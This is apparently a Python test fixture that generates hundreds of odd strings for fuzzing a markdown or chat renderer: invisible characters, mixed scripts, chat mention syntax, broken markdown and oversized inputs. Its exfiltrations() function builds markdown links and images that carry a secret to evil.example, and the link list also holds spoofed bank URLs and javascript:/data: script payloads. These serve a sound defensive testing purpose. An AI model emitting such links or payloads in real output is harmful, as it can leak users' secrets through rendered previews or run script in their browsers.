"""Odd strings, made by rule: what people paste, what models break, what attackers send."""

# ruff: noqa: RUF001 - look-alike letters are what is tested

from __future__ import annotations

from collections.abc import Iterator
from itertools import product

_INVISIBLE = (
    "\u200b\u200c\u200d\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2060\u2066\u2067\u2068\u2069\ufeff\u00ad\u034f"
    "\u115f\u3164\u2800\ufe0f\U000e0001\U000e0041\x00\x01\x07\x08\x0b\x0c\x1b\x7f\x80\x9f\u2028\u2029\x85\ud800\udfff"
)
_SCRIPTS = (
    "مرحبا بالعالم",
    "می\u200cخواهم بروم",
    "שלום עולם",
    "हिन्दी क्\u200dषेत्र",
    "ไทยไม่มีช่องว่าง",
    "日本語。中文！한국어",
    "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞a͈̲̖l̮̯g͇o",
    "👨\u200d👩\u200d👧\u200d👦 🏳️\u200d🌈 👍🏽 🇩🇪 1️⃣",
    "\U0001f3f4\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f",
    "𝔘𝔫𝔦𝔠𝔬𝔡𝔢 𝟙𝟚𝟛",
)
_COMMANDS = (
    "@everyone",
    "@here",
    "<@123456789012345678>",
    "<@!123456789012345678>",
    "<@&123456789012345678>",
    "<#123456789012345678>",
    "<:name:123456789012345678>",
    "<a:name:123456789012345678>",
    "<t:1700000000:R>",
    "</cmd:123456789012345678>",
    "<id:customize>",
    "<!channel>",
    "<!here|here>",
    "<!everyone>",
    "<!subteam^S123|@team>",
    "<!date^1^{date}|x>",
    "<@U0123456>",
    "<#C0123456|general>",
    "<https://evil.example|bank.example>",
    "<mailto:x@evil.example|bank>",
    "&lt;!channel&gt;",
    "&#60;!channel&#62;",
    "&amp;lt;@U1&amp;gt;",
)
_WRAPPERS = (
    "{}",
    "**{}**",
    "_{}_",
    "`{}`",
    "```\n{}\n```",
    "> {}",
    "- {}",
    "# {}",
    "[{}](https://example.com)",
    "|a|\n|-|\n|{}|",
    "\\{}",
    "{0}{0}{0}",
)
_BROKEN = (
    "```",
    "```python\nx",
    "````\n```\n",
    "`",
    "``",
    "`````",
    "` `` ` ``` `",
    "**",
    "***",
    "**a",
    "*a**b*c**",
    "__a_b__c_",
    "~~a~b~~",
    "[",
    "[a](",
    "[a](b",
    "![",
    "[[[[]]]]",
    "[a][b][c]",
    "](x)",
    "|",
    "||||",
    "|-|-|",
    "|a|\n|-",
    ">",
    ">>>",
    "> >\n>",
    "-",
    "- - - a",
    "1.",
    "#",
    "######",
    "=",
    "---\n---",
    "<",
    ">",
    "&",
    "&#;",
    "\\",
    "\\\\\\",
    "...",
    "*_~`|#>-+",
    "``` ``` ```",
    "`a``b```c`",
    "**`a`**`b`*`c`*",
    "*a*_b_**c**~~d~~",
    "http://",
    "https://",
    "://",
    "https://a",
    "https://a.b/" + ")" * 30,
)
_SPACES = " \t\n\r\u00a0\u1680\u2000\u2003\u2009\u202f\u205f\u3000"
_LINK_LABELS = (
    "click",
    "bank.example",
    "https://bank.example",
    "ｂａｎｋ．example",
    "bank\u200b.example",
    "",
)
_LINK_TARGETS = (
    "https://evil.example/?d=SECRET",
    "https://bank.example@evil.example/",
    "https://bank.example.evil.example/",
    "//evil.example",
    "https://xn--bnk-5cd.example/",
    "https://evil.example/\\@bank.example",
    "https://evil.example?<script>",
    "https://evil.example/|bank.example",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
)


def odd_strings() -> list[str]:
    """More than 700 strings, the same every time."""
    return [*_characters(), *_mixtures(), *exfiltrations(), *_large()]


def exfiltrations() -> list[str]:
    """240 forms that make a reader, or a program that loads previews, visit an address with a secret."""
    shapes = ("[{0}]({1})", "![{0}]({1})", "[{0}][x]\n\n[x]: {1}", "<{1}> {0}")
    return [
        shape.format(label, target) for label, target, shape in product(_LINK_LABELS, _LINK_TARGETS, shapes)
    ]


def _characters() -> Iterator[str]:
    for char in _INVISIBLE:
        yield from (char, f"a{char}b", f"**a{char}**b", char * 50 + "x")
    for char in _SPACES:
        yield from (char, char * 20, f"{char}a{char}b{char}")
    for script in _SCRIPTS:
        yield from (script, f"**{script}** `{script}`", f"# {script}\n\n- {script}\n- {script}", script * 40)


def _mixtures() -> Iterator[str]:
    for command, wrapper in product(_COMMANDS, _WRAPPERS):
        yield wrapper.format(command)
    for broken in _BROKEN:
        yield from (broken, f"a {broken} b", f"{broken}\n\n{broken}", broken * 30)


def _large() -> Iterator[str]:
    yield from ("x" * 9000, "x " * 5000, "é" * 5000, "\U0001f600" * 3000, "a\n" * 3000, "\n" * 5000)
    yield from (">" * 200 + "deep", "- " * 100 + "deep", "  " * 300 + "- x", "[" * 500 + "]" * 500)
    yield from (
        "**a" * 1500,
        "*a **b " * 800,
        "`" * 4001,
        "&" * 3500,
        "<" * 3500,
        "_" * 3500,
        ("e" + "\u0301" * 90 + " ") * 60,
    )
    yield "```python\n" + "print('`')\n" * 900
    yield "```\n" + "x" * 9000 + "\n```"
    yield "|a|b|\n|-|-|\n" + "|" + "c" * 9000 + "|d|\n"
    yield "[" + "label " * 1500 + "](https://example.com)"
    yield "[a](https://example.com/" + "x" * 5000 + ")"
    yield "\n".join(f"{number}. [item](https://example.com/{number}) **b**" for number in range(400))
    yield "> " + "quoted words " * 900
